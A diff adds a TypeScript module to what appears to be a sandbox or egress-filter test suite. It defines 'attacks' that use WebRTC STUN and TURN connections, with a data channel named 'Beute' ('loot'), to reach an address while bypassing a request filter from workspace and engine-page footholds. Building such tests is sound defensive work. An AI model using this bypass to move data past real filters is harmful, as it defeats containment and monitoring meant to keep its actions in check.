@@ -1,0 +1,41 @@
+import type { Attack, Foothold } from '../attack.ts';
+
+/* WebRTC goes past the request filter: ICE packets and TURN connections are no requests. */
+
+const calling = (name: string, from: Foothold, server: 'stun' | 'turn'): Attack => ({
+  name,
+  from,
+  walls: ['webrtc'],
+  heardAs: server === 'stun' ? '(datagram)' : '(connection)',
+  act: server === 'stun' ? viaStun : viaTurn,
+});
+
+const viaStun: Attack['act'] = async (address) => {
+  const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(address).host}` }] });
+  peer.createDataChannel('Beute');
+  const gathered = new Promise((resolve) => {
+    peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve(undefined);
+  });
+  await peer.setLocalDescription();
+  await gathered;
+  peer.close();
+};
+
+const viaTurn: Attack['act'] = async (address) => {
+  const urls = `turn:${new URL(address).host}?transport=tcp`;
+  const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'Beute', credential: 'Beute' }] });
+  peer.createDataChannel('Beute');
+  const gathered = new Promise((resolve) => {
+    peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve(undefined);
+  });
+  await peer.setLocalDescription();
+  await gathered;
+  peer.close();
+};
+
+export const calls: readonly Attack[] = [
+  calling('stun', 'workspace', 'stun'),
+  calling('turn', 'workspace', 'turn'),
+  calling('engine-page-stun', 'engine-page', 'stun'),
+  calling('engine-page-turn', 'engine-page', 'turn'),
+];
